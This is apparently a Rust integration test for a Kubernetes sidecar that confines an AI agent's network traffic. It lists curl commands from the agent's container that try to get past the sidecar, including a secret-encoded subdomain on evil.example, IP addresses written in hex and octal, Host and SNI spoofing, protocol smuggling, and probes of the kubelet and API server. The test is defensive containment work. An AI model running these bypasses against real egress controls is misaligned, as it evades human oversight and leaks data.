//! What a client in an agent's container may say to the sidecar, on a real node: whatever is no request to a declared name
//! ends there, is on the record, and nothing of it leaves the pod, not even as a name that somebody looks up.

use std::time::Duration;

use actpass_tests::cluster::{Cluster, eventually, possible};
use actpass_tests::home::text;
use actpass_tests::installed::Installed;
use actpass_tests::pod::Pod;
use actpass_tests::shop::Shop;
use anyhow::ensure;

/// What an attempt comes to.
#[derive(Clone, Copy, Debug)]
enum Want {
    /// Answers with these statuses; 200 is the provider's.
    Status(&'static str),
    /// No answer at all.
    Nothing,
    /// It is the request that it says, and goes where it should.
    Sent,
}

/// Number of the row in `docs/security-model.md`, what it is, what the agent's shell does, and what comes of it. `HOST` is the
/// provider's name, `PAY` a payment that is allowed; each prints a status, 000 for none.
const ATTEMPTS: &[(u8, &str, &str, Want)] = &[
    (
        31,
        "a name that carries data",
        "CURL https://c2VjcmV0.evil.example/",
        Want::Nothing,
    ),
    (
        32,
        "DNS over HTTPS",
        "CURL https://1.1.1.1/dns-query?name=evil.example",
        Want::Nothing,
    ),
    (35, "an address", "CURL http://203.0.113.9/", Want::Nothing),
    (
        35,
        "an address as a number",
        "CURL http://3405803785/",
        Want::Nothing,
    ),
    (
        35,
        "an address in hex",
        "CURL http://0xcb007109/",
        Want::Nothing,
    ),
    (
        35,
        "an address in octal",
        "CURL http://0313.0.0161.011/",
        Want::Nothing,
    ),
    (
        35,
        "an address of IPv6",
        "CURL 'http://[2001:db8:ff::99]/'",
        Want::Nothing,
    ),
    (
        35,
        "an IPv4 address in one of IPv6",
        "CURL 'http://[::ffff:203.0.113.9]/'",
        Want::Nothing,
    ),
    (
        36,
        "another Host",
        "CURL -H 'Host: evil.example' https://HOST/v1/payments",
        Want::Status("403"),
    ),
    (
        36,
        "another Host, HTTP/2",
        "CURL --http2 -H 'Host: evil.example' https://HOST/v1/payments",
        Want::Status("403"),
    ),
    (
        37,
        "another server name",
        "CURL -k --connect-to evil.example:443:HOST:443 https://evil.example/",
        Want::Nothing,
    ),
    (
        37,
        "no server name",
        "CURL -k https://$(curl -s -m 5 -o /dev/null -w '%{remote_ip}' https://HOST/)/",
        Want::Nothing,
    ),
    (
        38,
        "a name with its final dot",
        "CURL PAY https://HOST./v1/payments",
        Want::Sent,
    ),
    (
        38,
        "a Host in capitals with its port",
        "CURL PAY -H 'Host: UPPER:443' https://HOST/v1/payments",
        Want::Sent,
    ),
    (
        38,
        "userinfo in the Host",
        "CURL PAY -H 'Host: evil@HOST' https://HOST/v1/payments",
        Want::Status("403"),
    ),
    (
        40,
        "another Host on a connection that was good",
        "CURL --http2 PAY https://HOST/v1/payments --next -s -o /dev/null -w ' %{http_code}' --http2 -H 'Host: evil.example' https://HOST/v1/payments",
        Want::Status("200 403"),
    ),
    (
        43,
        "SSH",
        "printf 'SSH-2.0-x\\r\\n' | curl -s -m 3 telnet://HOST:443 >/dev/null; printf 000",
        Want::Nothing,
    ),
    (
        43,
        "SOCKS",
        "CURL --socks5 HOST:443 https://evil.example/",
        Want::Nothing,
    ),
    (
        43,
        "SMTP",
        "curl -s -m 3 smtp://HOST:443 --mail-from a@b --mail-rcpt c@d -T /dev/null >/dev/null; printf 000",
        Want::Nothing,
    ),
    (
        44,
        "CONNECT to an address",
        "CURL -x https://HOST:443 --proxy-insecure https://203.0.113.9/",
        Want::Nothing,
    ),
    (
        44,
        "CONNECT to a name",
        "CURL -x http://actpass.internal:80 https://evil.example/",
        Want::Nothing,
    ),
    (
        47,
        "HTTP/2 without TLS",
        "CURL --http2-prior-knowledge http://actpass.internal/v1/nothing",
        Want::Status("404"),
    ),
    (
        47,
        "an upgrade to HTTP/2",
        "CURL --http2 http://actpass.internal/v1/nothing",
        Want::Status("404"),
    ),
    (
        48,
        "an undeclared WebSocket",
        "CURL --http1.1 -H 'Connection: upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==' https://HOST/v1/payments",
        Want::Status("403"),
    ),
    (
        49,
        "a path that climbs",
        "CURL --path-as-is PAY https://HOST/v1/x/../payments",
        Want::Status("403"),
    ),
    (
        49,
        "a path that climbs, encoded",
        "CURL --path-as-is PAY https://HOST/v1/x/%2e%2e/payments",
        Want::Status("403"),
    ),
    (
        49,
        "an encoded slash",
        "CURL --path-as-is PAY https://HOST/v1%2fpayments",
        Want::Status("403"),
    ),
    (
        49,
        "a parameter of a path",
        "CURL --path-as-is PAY 'https://HOST/v1/payments;x=1'",
        Want::Status("403"),
    ),
    (
        50,
        "where Envoy would go",
        "CURL PAY -H 'x-envoy-original-dst-host: 203.0.113.9:443' https://HOST/v1/payments",
        Want::Sent,
    ),
    (
        50,
        "another method",
        "CURL PAY -H 'X-HTTP-Method-Override: DELETE' https://HOST/v1/payments",
        Want::Status("403"),
    ),
    (
        63,
        "the API server, by its name",
        "CURL -k https://kubernetes.default.svc/api",
        Want::Nothing,
    ),
    (
        63,
        "the API server, by its address",
        "CURL -k https://10.96.0.1/api",
        Want::Nothing,
    ),
    (
        70,
        "the kubelet",
        "CURL -k https://10.77.0.1:10250/pods",
        Want::Nothing,
    ),
    (
        70,
        "the node's API server",
        "CURL -k https://10.77.0.1:6443/",
        Want::Nothing,
    ),
    (
        70,
        "the kubelet, IPv6",
        "CURL -k 'https://[fd77::1]:10250/pods'",
        Want::Nothing,
    ),
];

/// A status and nothing else.
const CURL: &str = "curl -s -m 5 -o /dev/null -w '%{http_code}'";

const PAY: &str = "-H 'content-type: application/json' -d '{\"amount\":100,\"note\":\"NOTE\"}'";

#[test]
fn what_is_no_request_to_a_declared_name_ends_at_the_sidecar() {
    if !possible() {
        return;
    }
    let cluster = Cluster::up().unwrap();
    let installed = Installed::on(&cluster).unwrap();
    let shop = Shop::open(&installed, "says").unwrap();
    let pod = Pod::of(&shop.namespace, "agent").unwrap();
    let provider = shop.address().unwrap();
    assert_eq!(shop.pay(100, "before").unwrap().0, "200");
    let sniffer = pod.sniffer().unwrap();
    let mut wrong = Vec::new();
    for (at, (number, what, script, want)) in ATTEMPTS.iter().enumerate() {
        let before = shop.front.seen().len();
        let script = script
            .replace("CURL", CURL)
            .replace("PAY", &PAY.replace("NOTE", &format!("{at}")))
            .replace("UPPER", &shop.host.to_uppercase())
            .replace("HOST", &shop.host);
        // What curl ends with says less than what it prints.
        let said = text(
            &shop
                .namespace
                .exec("agent", &format!("{script}; true"))
                .unwrap(),
        );
        let status = said.trim();
        let sent = shop.front.seen().len() - before;
        let good = match want {
            Want::Status(answers) => status == *answers && sent == answers.matches("200").count(),
            Want::Nothing => status == "000" && sent == 0,
            Want::Sent => status == "200" && sent == 1,
        };
        if !good {
            wrong.push(format!(
                "{number} {what}: {want:?}, got `{said}`, {sent} sent"
            ));
        }
        let frames = sniffer.so_far().unwrap();
        for frame in pod.undecided(&frames, &[provider], &[&shop.host]) {
            wrong.push(format!("{number} {what}: {frame}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    let hosts = shop.front.seen();
    let hosts = hosts.iter().map(|it| it.header("host").unwrap_or_default());
    for host in hosts {
        assert_eq!(host, shop.host);
    }
    // What was tried is on the record, where it got as far as to say something.
    eventually(Duration::from_secs(20), || {
        let leaves = installed.leaves(&shop.namespace)?;
        let leaves = serde_json::to_string(&leaves)?;
        for target in [
            "c2VjcmV0.evil.example",
            "TCP to 203.0.113.9:80",
            "TCP to [2001:db8:ff::99]:80",
            "TCP to 10.77.0.1:10250",
            "as evil.example",
            "with server name evil.example",
            "with no server name",
        ] {
            ensure!(leaves.contains(target), "not recorded: {target}");
        }
        Ok(())
    })
    .unwrap();
}
